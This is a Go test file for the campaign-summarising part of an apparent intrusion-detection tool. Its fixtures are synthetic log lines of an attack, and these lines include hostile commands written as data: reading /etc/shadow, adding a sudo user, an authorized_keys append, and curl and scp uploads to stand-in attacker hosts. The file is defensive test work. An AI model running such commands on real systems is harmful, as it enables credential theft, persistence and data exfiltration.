package campaign

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tocsin-ids/tocsin"
)

// acted makes actors of lines: seconds | actor | who | host | verb tactic/technique outcome weight n | on | sensor | text. Fields may be
// empty; who and on are KIND:VALUE, several with blanks between.
func acted(t *testing.T, lines string) []*tocsin.Actor {
	t.Helper()
	by := map[string]*tocsin.Actor{}
	var all []*tocsin.Actor
	entities := func(s string) (out []tocsin.Entity) {
		for _, f := range strings.Fields(s) {
			kind, value, _ := strings.Cut(f, ":")
			out = append(out, tocsin.Entity{Kind: kind, Value: value})
		}
		return out
	}
	for n, line := range strings.Split(strings.TrimSpace(lines), "\n") {
		if line == "" {
			continue
		}
		f := strings.SplitN(line, "|", 8)
		for i := range f {
			f[i] = strings.TrimSpace(f[i])
		}
		if len(f) != 8 {
			t.Fatalf("%q: %d fields", line, len(f))
		}
		var seconds, count int
		var verb, what, outcome string
		var weight float64
		if _, err := fmt.Sscan(f[0], &seconds); err != nil {
			t.Fatalf("%q: %v", line, err)
		}
		if _, err := fmt.Sscan(f[4], &verb, &what, &outcome, &weight, &count); err != nil {
			t.Fatalf("%q: %v", line, err)
		}
		a := by[f[1]]
		if a == nil {
			kind, value, _ := strings.Cut(f[1], ":")
			a = &tocsin.Actor{ID: f[1], Handles: []tocsin.Entity{{Kind: kind, Value: value}}, Local: kind == "host", First: day.Add(time.Duration(seconds) * time.Second)}
			by[f[1]] = a
			all = append(all, a)
		}
		at := day.Add(time.Duration(seconds) * time.Second)
		d := tocsin.Deed{N: count, Last: at, Weight: weight}
		d.Time, d.Host, d.Verb, d.Text, d.Who, d.On = at, f[3], verb, f[7], entities(f[2]), entities(f[5])
		if what != "-" {
			d.Tactic, d.Technique, _ = strings.Cut(what, "/")
		}
		for i, o := range [...]string{"unknown", "worked", "failed", "denied"} {
			if o == outcome {
				d.Outcome = tocsin.Outcome(i)
			}
		}
		if words := strings.Fields(strings.TrimPrefix(f[7], "sudo ")); len(words) > 0 {
			d.Tool = words[0]
		}
		d.Level = tocsin.Low
		if weight >= 2 {
			d.Level = tocsin.Medium
		}
		if weight >= 4 {
			d.Level = tocsin.High
		}
		sensor := f[6]
		d.Place = tocsin.Place{Time: at, Source: sensor, Record: uint64(n + 1)}
		d.Seen = []tocsin.Sight{{Sensor: sensor, Place: d.Place}}
		d.Spans = []tocsin.Span{{Source: sensor, From: uint64(n + 1), To: uint64(n + 1)}}
		a.Deeds = append(a.Deeds, d)
		a.Last = at
	}
	return all
}

// onlyCampaign is the one campaign of lines.
func onlyCampaign(t *testing.T, lines string) *tocsin.Campaign {
	t.Helper()
	r := build(acted(t, lines))
	if len(r.Campaigns) != 1 {
		t.Fatalf("%d campaigns", len(r.Campaigns))
	}
	return r.Campaigns[0]
}

// keyed is what key events say, a line each.
func keyed(c *tocsin.Campaign) string {
	var b strings.Builder
	for _, e := range c.Key {
		fmt.Fprintf(&b, "%d %s at %s as %s from %s: %s → %s, %s, %d\n", int(e.Time.Sub(day).Seconds()), e.Kind, e.Host, e.Account, e.From, e.What, strings.Join(e.On, " "), e.Outcome, len(e.Places))
	}
	return b.String()
}

const server = `
0   | address:203.0.113.9 | address:203.0.113.9 | web1 | request - worked 0 1 | | access.log | GET /
10  | address:203.0.113.9 | address:203.0.113.9 | web1 | scan reconnaissance/T1595.003 failed 2 90 | | access.log | GET /admin
30  | address:203.0.113.9 | address:203.0.113.9 | web1 | login credential-access/T1110 failed 2 20 | host:web1 user:web1\root user:web1\ann | auth.log | login as root
60  | address:203.0.113.9 | address:203.0.113.9 session:web1/7 | web1 | login - worked 0 1 | host:web1 user:web1\ann | auth.log | login as ann
60  | address:203.0.113.9 | address:203.0.113.9 | web1 | login initial-access/T1110.001 worked 6 0 | host:web1 user:web1\ann | auth.log | login as ann
61  | address:203.0.113.9 | address:203.0.113.9 | web1 | login - worked 0 1 | user:ann | wtmp | login as ann
70  | address:203.0.113.9 | session:web1/7 user:web1\ann | web1 | read credential-access/T1003.008 unknown 2 1 | host:web1 | audit.log | sudo cat /etc/shadow
70  | address:203.0.113.9 | user:web1\ann | web1 | read credential-access/T1003.008 worked 2 1 | host:web1 | secure | cat /etc/shadow
80  | address:203.0.113.9 | session:web1/7 user:web1\ann | web1 | create persistence/T1136.001 worked 0.6 1 | host:web1 | audit.log | useradd -m -G sudo svc-copy
80  | host:web1 | | web1 | create persistence/T1136 worked 0.6 1 | host:web1 user:web1\svc-copy | secure | new user: name=svc-copy, UID=2020
85  | address:203.0.113.9 | session:web1/7 user:web1\ann | web1 | create persistence/T1136.001 denied 0.6 1 | host:web1 | audit.log | useradd other
90  | address:203.0.113.9 | session:web1/7 user:web1\ann | web1 | copy collection/T1560.001 worked 0.6 1 | host:web1 | audit.log | tar czf /tmp/a.tgz /srv
95  | address:203.0.113.9 | session:web1/7 user:web1\ann | web1 | send exfiltration/T1567 unknown 2 1 | address:203.0.113.80 | audit.log | curl -T /tmp/a.tgz http://203.0.113.80/up
99  | address:203.0.113.9 | session:web1/7 user:web1\ann | web1 | run - worked 0 1 | host:web1 | audit.log | ls
`

func TestKeyEvents(t *testing.T) {
	const want = `0 contact at web1 as  from 203.0.113.9: GET / → , worked, 1
60 entry at web1 as web1\ann from 203.0.113.9: login as ann → host:web1, worked, 2
70 privilege at web1 as web1\ann from : cat /etc/shadow → , worked, 2
70 secrets at web1 as web1\ann from : cat /etc/shadow → , worked, 2
80 account at web1 as web1\ann from : useradd -m -G sudo svc-copy → user:web1\svc-copy, worked, 2
90 collection at web1 as web1\ann from : tar czf /tmp/a.tgz /srv → , worked, 1
95 upload at web1 as web1\ann from : curl -T /tmp/a.tgz http://203.0.113.80/up → address:203.0.113.80, unknown, 1
99 last at web1 as web1\ann from : ls → , worked, 1
`
	c := onlyCampaign(t, server)
	if got := keyed(c); got != want {
		t.Errorf("got\n%swant\n%s", got, want)
	}
	if last := c.Key[len(c.Key)-1]; !last.Time.Equal(c.Last) {
		t.Errorf("last seen %s, the campaign ends %s", last.Time, c.Last)
	}
}

// Data left only where somebody was told so or the network counted it; what failed is no event, and what did not happen is
// none either.
func TestKeyEventsAreTrue(t *testing.T) {
	counted := strings.Replace(server, "90  | address", `94  | address:203.0.113.9 | agent:p-7 | web1 | send exfiltration/T1048 worked 2 1 | host:drop.intruder.example | agent.jsonl | scp a.tgz drop.intruder.example:
90  | address`, 1)
	if got := keyed(onlyCampaign(t, counted)); !strings.Contains(got, "94 sent at web1 as p-7") {
		t.Errorf("what an agent was told to have left is not sent:\n%s", got)
	}
	failed := strings.NewReplacer("login - worked", "login - failed", "login initial-access/T1110.001 worked", "login credential-access/T1110 failed").Replace(server)
	for _, c := range build(acted(t, failed)).Campaigns {
		for _, e := range c.Key {
			if e.Kind == "entry" || e.Kind == "lateral" || e.Kind == "sent" {
				t.Errorf("%s without one: %+v", e.Kind, e)
			}
		}
	}
	for _, c := range build(script(t, intrusion)).Campaigns {
		seen := map[string]int{}
		for i, e := range c.Key {
			seen[e.Kind]++
			if len(e.Places) == 0 || e.What == "" || i > 0 && e.Time.Before(c.Key[i-1].Time) || !slices.Contains(tocsin.KeyKinds[:], e.Kind) {
				t.Errorf("%+v", e)
			}
		}
		if len(c.Key) > maxKey || seen["contact"]+seen["sign"] != 1 || seen["last"] != 1 || seen["account"] != 0 {
			t.Errorf("kinds %v", seen)
		}
	}
}

// The first machine after the first is another one, entered from within.
func TestLateral(t *testing.T) {
	c := onlyCampaign(t, server+`
120 | address:203.0.113.9 | session:web1/7 user:web1\ann | web1 | login lateral-movement/T1021.004 worked 2 1 | host:db1 | audit.log | ssh ann@db1
130 | address:203.0.113.9 | session:web1/7 user:web1\ann | web1 | login lateral-movement/T1021.004 failed 2 1 | host:db2 | audit.log | ssh ann@db2
`)
	var all []string
	for _, e := range c.Key {
		if e.Kind == "lateral" {
			all = append(all, e.Host+" "+e.What)
		}
	}
	if len(all) != 1 || all[0] != "db1 ssh ann@db1" {
		t.Errorf("%q", all)
	}
}

// There are never more than maxKey, whatever is done; what is left out is counted.
func TestKeyEventsBounded(t *testing.T) {
	var more strings.Builder
	for i := range 40 {
		fmt.Fprintf(&more, "%d | address:203.0.113.9 | user:web1\\ann | web1 | create persistence/T1136.001 worked 0.6 1 | host:web1 | audit.log | useradd copy%d\n", 200+i*20, i)
	}
	c := onlyCampaign(t, server+more.String())
	if len(c.Key) > maxKey || c.Omitted["key_events"] == 0 {
		t.Errorf("%d events, %v left out", len(c.Key), c.Omitted)
	}
}

func TestMadeBy(t *testing.T) {
	for _, m := range makers {
		if got := madeBy(m.line); got != m.name {
			t.Errorf("%s: %q, want %q", m.line, got, m.name)
		}
	}
	for _, line := range []string{"", "userdel svc-copy", "net user", "net localgroup admins svc-copy /add", "echo useradd", "useradd -D", "net user *** /add", "useradd $NAME"} {
		if got := madeBy(line); got != "" {
			t.Errorf("%s: %q", line, got)
		}
	}
}

func TestPublicKeyIn(t *testing.T) {
	const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExampleEx lab@intruder.example"
	for text, want := range map[string]string{`echo "` + key + `" >> ~/.ssh/authorized_keys`: key, key: key, "ssh-rsa AAAA": "", "ssh-ed25519 AAAA*** x": "", "": ""} {
		if got := publicKeyIn(text); got != want {
			t.Errorf("%s: %q", text, got)
		}
	}
}

// A campaign ends with the last stretch that has something telling: a job that goes on as an account that was taken is ordinary.
func TestEnd(t *testing.T) {
	const job = "%d | address:203.0.113.9 | session:web1/7 user:web1\\ann | web1 | run - worked 0 1 | host:web1 | audit.log | /srv/job\n"
	half := int(ebb / time.Second)
	c := onlyCampaign(t, server+fmt.Sprintf(job+job+job, 95+half, 95+2*half+1, 95+20*half))
	if want := day.Add(95*time.Second + ebb); !c.Last.Equal(want) || !c.Key[len(c.Key)-1].Time.Equal(want) {
		t.Errorf("it ends at %s, last seen %s; want %s", c.Last, c.Key[len(c.Key)-1].Time, want)
	}
}

// A server that was made to run a program is named; so are where a file was fetched from, and where the program then spoke to, which an
// ordinary program's connection is not.
func TestKeyEventsOfAServer(t *testing.T) {
	actors := acted(t, `
10 | host:web1 | | web1 | run execution/T1190 worked 4 1 | host:web1 | sysmon | "C:\Windows\System32\Shell.exe" -enc aaaa
12 | host:web1 | | web1 | connect command-and-control/T1071 unknown 0.6 1 | address:10.7.0.9 | sysmon | 10.7.0.9:443
13 | host:web1 | | web1 | copy command-and-control/T1105 worked 2 1 | domain:get.intruder.example | proxy | GET http://get.intruder.example/a.bin
`)
	deeds := actors[0].Deeds
	deeds[0].Log, deeds[0].Tool, deeds[0].Marks = "windows", "getmethod", []string{"server:tomcat9"}
	deeds[1].Tool = "shell"
	keys := func() string { return keyed(build(actors).Campaigns[0]) }
	const control = "12 callout at web1 as  from : 10.7.0.9:443 → address:10.7.0.9, unknown, 1\n"
	got := keys()
	for _, want := range []string{control, "13 download at web1 as  from : GET http://get.intruder.example/a.bin → domain:get.intruder.example, worked, 1\n"} {
		if !strings.Contains(got, want) {
			t.Errorf("lacks %s in\n%s", want, got)
		}
	}
	for _, e := range build(actors).Campaigns[0].Key {
		if want := map[string]string{"entry": "tomcat9"}[e.Kind]; e.Server != want {
			t.Errorf("%s by the server %q, want %q", e.Kind, e.Server, want)
		}
	}
	deeds[1].Tool = "updater"
	if got := keys(); strings.Contains(got, "callout") {
		t.Errorf("another program's connection gives orders:\n%s", got)
	}
}

// What describes a victim's server joins nobody.
func TestServersJoinNobody(t *testing.T) {
	actors := acted(t, `
10 | address:203.0.113.9 | address:203.0.113.9 | web1 | run execution/T1190 worked 4 1 | host:web1 | a | sh -c id
9000 | address:198.51.100.7 | address:198.51.100.7 | web2 | run execution/T1190 worked 4 1 | host:web2 | b | sh -c id
`)
	for _, a := range actors {
		a.Deeds[0].Marks = []string{"server:tomcat9"}
	}
	for _, c := range build(actors).Campaigns {
		if len(c.Actors) > 1 {
			t.Errorf("joined by %v", c.Links)
		}
	}
}

// Accounts that commands log in with are told, but those that were refused or only guessed at; they join nobody.
func TestLoggedIn(t *testing.T) {
	actors := acted(t, `
10 | agent:op | agent:op | | login credential-access/T1110.003 unknown 2 1 | address:10.7.0.9 | a | toolx 10.7.0.9 -u guest -P list
12 | agent:op | agent:op | | login lateral-movement/T1021.002 worked 4 1 | address:10.7.0.9 | a | toolx 10.7.0.9 -u svc-copy -p ***
14 | agent:op | agent:op | | run credential-access/T1003.008 worked 4 1 | address:10.7.0.9 | a | ssh bob@10.7.0.9 cat /etc/shadow
16 | agent:op | agent:op | | login lateral-movement/T1021.002 denied 2 1 | address:10.7.0.9 | a | toolx 10.7.0.9 -u root
`)
	for i, name := range []string{"guest", "svc-copy", "bob", "root"} {
		actors[0].Deeds[i].Marks = []string{"account:" + name}
	}
	var got []string
	for _, e := range build(actors).Campaigns[0].LoggedIn {
		got = append(got, e.Kind+":"+e.Value)
	}
	if s := strings.Join(got, " "); s != "user:svc-copy user:bob" {
		t.Errorf("logged in as %s", s)
	}
}
